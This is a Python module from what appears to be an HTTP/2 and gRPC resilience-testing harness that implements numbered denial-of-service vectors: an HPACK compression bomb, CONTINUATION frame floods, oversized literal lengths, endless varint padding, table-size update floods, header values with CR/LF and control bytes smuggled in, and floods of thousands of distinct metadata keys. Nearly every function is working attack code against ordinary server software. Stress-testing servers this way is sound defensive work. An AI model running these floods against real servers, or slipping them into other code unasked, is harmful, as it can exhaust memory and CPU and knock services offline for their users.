"""Vectors 7-11, 26 and 27: header blocks that cost more than they weigh."""

import http2_raw as h2
from attack import repeat, vector


def continuations(stream, data):
    """Full frames of it, never the last."""
    return b"".join(h2.frame(h2.CONTINUATION, 0, stream, data[at:at + 16384]) for at in range(0, len(data), 16384))


@vector(7, "huge literal, 1 GB length", cpu=0.3, cut=True)
def huge_literal(attack):
    """Grows by frames; what has been read before is read again with each."""
    block = h2.request_block(attack.target.path) + b"\x00"
    start = h2.headers(1, block + h2.text(b"x") + h2.integer(2**30, 7), flags=0)
    attack.flood("value", start + continuations(1, b"a" * attack.dose(24 * 2**20, 12 * 2**20)))
    start = h2.headers(1, block + h2.integer(2**30, 7), flags=0)
    attack.flood("name", start + continuations(1, b"a" * attack.dose(24 * 2**20, 4 * 2**20)))


@vector(8, "varint padding", cpu=0.3, cut=True)
def varint_padding(attack):
    """An integer that never ends, and one that ends after very long: zero, in megabytes."""
    start = h2.headers(1, h2.request_block(attack.target.path) + b"\x00" + h2.text(b"x") + b"\x7f", flags=0)
    attack.flood("length", start + continuations(1, b"\x80" * attack.dose(16 * 2**20, 2 * 2**20)))
    start = h2.headers(1, b"\xff", flags=0)
    attack.flood("index", start + continuations(1, b"\x80" * attack.dose(16 * 2**20, 2 * 2**20)))


@vector(9, "CONTINUATION flood, also empty", cpu=0.5, cut=True)
def continuation_flood(attack):
    start = h2.headers(1, h2.request_block(attack.target.path), flags=0)
    count = attack.dose(1000000)
    attack.flood("empty", start + h2.frame(h2.CONTINUATION, 0, 1) * count)
    header = h2.literal(b"x", b"1")
    attack.flood("small", start + h2.frame(h2.CONTINUATION, 0, 1, header) * count)
    attack.flood("full", start + h2.frame(h2.CONTINUATION, 0, 1, header * (16384 // len(header)))
                 * attack.dose(2000))


@vector(10, "HPACK bomb, 4 KB entry x 10,000", cpu=1.5)
def hpack_bomb(attack):
    """Ten thousand bytes that stand for forty megabytes, again and again."""
    connection = attack.connect()
    block = h2.request_block(attack.target.path)
    first = h2.request(1, block + h2.literal(b"x", b"b" * 4000, remember=True), attack.target.payload)
    bomb = block + h2.indexed(62) * 10000
    attack.flood("10,000 times 4 KB", first + repeat(lambda n: h2.headers(3 + 2 * n, bomb), attack.dose(2000)),
                 connection)


@vector(11, "table-size update flood", cpu=1.5)
def table_size_flood(attack):
    block = h2.request_block(attack.target.path)
    attack.flood("one block", repeat(lambda n: h2.headers(1 + 2 * n, b"\x20" * 16000 + block), attack.dose(2000)))
    update = b"\x20" + h2.integer(4096, 5, 0x20)
    attack.flood("two in each", repeat(lambda n: h2.headers(1 + 2 * n, update + block)
                                       + h2.rst_stream(1 + 2 * n), attack.dose(100000)))


@vector(26, "metadata with control bytes", cpu=1.5)
def control_bytes(attack):
    """In values and in names, binary headers that are no base64, and pseudo-headers that are none."""
    bad = [b"a\rb", b"a\nb", b"a\0b", b"\x7f", b"\xff\xfe", b" ", b"\x1b[31m", bytes(range(32))]
    extras = [h2.literal(b"x-note", value) for value in bad] + [h2.literal(value, b"1") for value in bad]
    extras += [h2.literal(b"x-bin", b"!!!!"), h2.literal(b"grpc-trace-bin", b"=" * 100), h2.literal(b"X-Upper", b"1"),
               h2.literal(b"", b""), h2.literal(b":status", b"200"), h2.literal(b":path", b"/other"),
               h2.literal(b"te", b"x"), h2.literal(b":scheme", b"x"), h2.literal(b"grpc_client_stats", b"x" * 9000),
               h2.literal(b"authorization", b"Bearer \r\nx: y")]
    outcomes = {}
    for extra in extras * attack.dose(10):
        connection = attack.connect()
        status, _ = attack.ask(connection, 1, extra, seconds=3)
        answer = connection.streams[1]
        how = (f"status {status}" if status is not None else f"reset {answer.reset}" if answer.reset is not None
               else connection.cut or "silence")
        outcomes[how] = outcomes.get(how, 0) + 1
        connection.close()
    attack.note(", ".join(f"{how}: {count}" for how, count in sorted(outcomes.items())))
    connection = attack.connect()
    attack.note(f"a good call after them: {attack.ask(connection, 1)[0]}")


@vector(27, "10 k distinct metadata keys", cpu=1.5)
def many_keys(attack):
    """In one block, and a few in each of many calls: nothing may remember them."""
    keys = [h2.literal(b"k%07d" % number, b"v") for number in range(attack.dose(100000, 10000))]
    block = h2.request_block(attack.target.path)
    whole = block + b"".join(keys[:10000])
    frames = h2.headers(1, whole[:16384], flags=0) + continuations(1, whole[16384:]) + h2.frame(h2.CONTINUATION, 4, 1)
    attack.flood("in one block", frames)
    per_call = 100
    attack.flood("over many calls", b"".join(
        h2.headers(1 + 2 * number, block + b"".join(keys[at:at + per_call]))
        + h2.rst_stream(1 + 2 * number) for number, at in enumerate(range(0, len(keys), per_call))))
    remembered = [h2.literal(b"k%07d" % number, b"v", remember=True) for number in range(attack.dose(100000, 10000))]
    attack.flood("into the table", b"".join(
        h2.headers(1 + 2 * number, block + b"".join(remembered[at:at + per_call]))
        + h2.rst_stream(1 + 2 * number) for number, at in enumerate(range(0, len(remembered), per_call))))
